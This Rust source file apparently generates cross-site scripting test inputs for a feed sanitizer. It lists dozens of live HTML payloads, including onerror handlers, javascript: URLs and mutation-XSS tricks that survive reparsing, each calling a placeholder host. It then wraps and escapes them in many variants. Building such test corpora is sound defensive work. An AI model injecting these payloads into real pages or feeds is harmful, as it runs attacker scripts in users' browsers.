//! Generates what an attacker may write in a field: markup that runs or requests something, hidden in what a reader of
//! feeds removes, and escaped more or less often than it should be.

/// Markup that runs a script. `EXEC` is a script that requests `/executed/…`.
const SCRIPTS: [&str; 27] = [
    "<img src=http://HOST/picture/none onerror=EXEC>",
    "<script>EXEC</script>",
    "<script src=http://HOST/executed/N></script>",
    "<svg onload=EXEC>",
    "<svg><animate onbegin=EXEC attributeName=x dur=1s>",
    "<svg><script>EXEC</script></svg>",
    "<math><a xlink:href=\"javascript:EXEC\">x</a></math>",
    "<a href=\" java\nscript:EXEC\">x</a>",
    "<iframe src=\"javascript:EXEC\"></iframe>",
    "<iframe srcdoc=\"<script>EXEC</script>\"></iframe>",
    "<meta http-equiv=refresh content=\"0;url=http://HOST/executed/N\">",
    "<form action=\"javascript:EXEC\"><button formaction=\"javascript:EXEC\">x</button></form>",
    "<input autofocus onfocus=EXEC>",
    "<x tabindex=1 autofocus onfocus=EXEC>",
    "<details open ontoggle=EXEC>x",
    "<video src=http://HOST/media/none onerror=EXEC></video>",
    "<audio><source src=http://HOST/media/none onerror=EXEC></audio>",
    "<body onload=EXEC>",
    "<marquee onstart=EXEC>x</marquee>",
    // These change their meaning when HTML is parsed, written and parsed again.
    "<noscript><img title=\"</noscript><img src=http://HOST/picture/none onerror=EXEC>\"></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=EXEC&gt;\">",
    "<svg></p><style><a id=\"</style><img src=http://HOST/picture/none onerror=EXEC>\">",
    // These are kept in another form.
    "<amp-img src='http://HOST/picture/none\" onerror=\"EXEC'></amp-img>",
    "<picture><source srcset=http://HOST/picture/none onerror=EXEC></picture>",
    "<object data=\"javascript:EXEC\"><embed src=\"data:text/html,<script>EXEC</script>\"></object>",
    "<lite-youtube videoid='\"><img src=http://HOST/picture/none onerror=EXEC>'></lite-youtube>",
    "<math><mfenced open=\"<svg onload=EXEC>\"><mi>x</mi></mfenced></math>",
];

/// Markup that requests something else than a picture or media.
const REQUESTS: [&str; 10] = [
    "<iframe src=http://HOST/request/N></iframe>",
    "<object data=http://HOST/request/N></object>",
    "<embed src=http://HOST/request/N>",
    "<link rel=stylesheet href=http://HOST/request/N>",
    "<style>@import url(http://HOST/request/N);</style>",
    "<base href=http://HOST/request/><img src=N>",
    "<input type=image src=http://HOST/request/N>",
    "<p style=\"background:url(http://HOST/request/N)\">x</p>",
    "<table background=http://HOST/request/N><tr><td>x</table>",
    "<iframe data-src=http://HOST/request/N></iframe><object><param name=src value=http://HOST/request/N></object>",
];

/// What may be removed from a text, so that its neighbours meet.
const SEPARATORS: [&str; 9] =
    ["<b>", "</b>", "<!---->", "<![CDATA[", "]]>", "<x y='>'>", "\u{feff}", "\u{fdd0}", "\u{1}"];

/// The markup alone, where each of it is numbered from 0.
pub fn plain(host: &str) -> Vec<String> {
    let all = SCRIPTS.iter().chain(&REQUESTS).enumerate();
    all.map(|(number, markup)| {
        let run = format!("fetch('http://{host}/executed/N')");
        markup.replace("EXEC", &run).replace("HOST", host).replace('N', &number.to_string())
    })
    .collect()
}

/// Every markup in every place, with every escaping.
pub fn all(host: &str) -> Vec<String> {
    plain(host).iter().flat_map(|markup| nested(markup)).flat_map(|text| escaped(&text)).collect()
}

fn nested(markup: &str) -> Vec<String> {
    let mut all: Vec<String> = SEPARATORS
        .iter()
        .map(|gap| markup.replace('<', &format!("<{gap}")).replace('>', &format!("{gap}>")))
        .collect();
    all.extend([
        markup.to_owned(),
        format!("{}<b>{}", &markup[..2], &markup[2..]),
        format!("<!-- {markup} -->"),
        format!("<!-- > {markup}"),
        format!("<textarea>{markup}</textarea>"),
        format!("<b title=\"{markup}\">x</b>"),
        format!("<b title='{markup}"),
        markup.replace('<', "&<b></b>lt;").replace('>', "&<b></b>gt;"),
    ]);
    all
}

fn escaped(text: &str) -> Vec<String> {
    let escape = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    vec![
        text.to_owned(),
        escape(text),
        escape(&escape(text)),
        escape(&escape(&escape(text))),
        text.replace('<', "&#60;"),
        text.replace('<', "&LT").replace('>', "&gt"),
        text.replace('>', "&gt;"),
    ]
}
